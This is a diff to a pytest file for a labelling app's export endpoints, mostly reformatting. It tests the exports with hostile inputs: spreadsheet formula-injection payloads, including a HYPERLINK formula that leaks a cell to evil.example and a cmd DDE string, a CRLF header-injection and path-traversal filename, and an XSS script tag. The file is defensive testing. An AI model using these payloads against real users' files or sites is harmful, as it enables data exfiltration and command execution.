@@ -1,6 +1,7 @@
 """Exports and downloads with hostile names and texts: filenames built from ids only, no CSV (so no
 spreadsheet formulas), every text exported byte for byte, one JSON object per line whatever the
 text holds, and the headers that stop a browser from sniffing an export into a page."""
+
 from __future__ import annotations
 
 import io
@@ -18,19 +19,35 @@ from tests.rounds.helpers import make_version
 NAME = 'Q3 "final"\r\nContent-Type: text/html\n../../etc/passwd ü \u202etxt.exe'
 # Leading =, +, -, @, tab and CR are what a spreadsheet reads as a formula; the rest is line and
 # direction trickery. All are data here, and must come back exactly as uploaded.
-TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-         "\t=1+1", "\r=1+1", "line\u2028separator\u2029paragraph\x85next",
-         "<script>alert(1)</script> \u202eabc \u200b\ufeff"]
-EXPORTS = [("rankings", {}), ("consensus", {}), ("pairs", {"style": "standard"}),
-           ("pairs", {"style": "conversational"})]
+TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "line\u2028separator\u2029paragraph\x85next",
+    "<script>alert(1)</script> \u202eabc \u200b\ufeff",
+]
+EXPORTS = [
+    ("rankings", {}),
+    ("consensus", {}),
+    ("pairs", {"style": "standard"}),
+    ("pairs", {"style": "conversational"}),
+]
 
 
 @pytest.fixture
 def hostile(db):
     project = make_project(db, name=NAME, overlap=1)
     task = make_task(db, project, texts=TEXTS, prompt_text="=cmd|' /C calc'!A0 \u2028 <b>x</b>")
-    make_ranking(db, task, make_user(db, role=Role.labeler, projects=[project]),
-                 [[c] for c in task.completion_ids], comment="@comment\u2028=1")
+    make_ranking(
+        db,
+        task,
+        make_user(db, role=Role.labeler, projects=[project]),
+        [[c] for c in task.completion_ids],
+        comment="@comment\u2028=1",
+    )
     return project
 
 
@@ -53,8 +70,9 @@ def test_jsonl_exports_are_named_by_id_and_keep_every_text(client, hostile, expo
 
 @pytest.mark.parametrize("kind, params", EXPORTS, ids=["rankings", "consensus", "pairs", "pairs-conv"])
 def test_parquet_exports_are_named_by_id_and_keep_every_text(client, hostile, export_auth, kind, params):
-    response = client.get(f"/api/v1/projects/{hostile.id}/exports/{kind}", params={**params, "format": "parquet"},
-                          headers=export_auth)
+    response = client.get(
+        f"/api/v1/projects/{hostile.id}/exports/{kind}", params={**params, "format": "parquet"}, headers=export_auth
+    )
     assert response.status_code == 200, response.text
     disposition = response.headers["content-disposition"]
     assert re.fullmatch(rf'attachment; filename="project-{hostile.id}-{kind}(-\w+)?\.parquet"', disposition)
@@ -66,8 +84,9 @@ def test_parquet_exports_are_named_by_id_and_keep_every_text(client, hostile, ex
 
 
 def test_no_csv_export_is_offered(client, hostile, export_auth):
-    response = client.get(f"/api/v1/projects/{hostile.id}/exports/rankings", params={"format": "csv"},
-                          headers=export_auth)
+    response = client.get(
+        f"/api/v1/projects/{hostile.id}/exports/rankings", params={"format": "csv"}, headers=export_auth
+    )
     assert response.status_code == 422 and "format" in response.json()["message"]
     asked = client.get(f"/api/v1/projects/{hostile.id}/exports/rankings", headers={**export_auth, "Accept": "text/csv"})
     assert asked.headers["content-type"].startswith("application/x-ndjson")
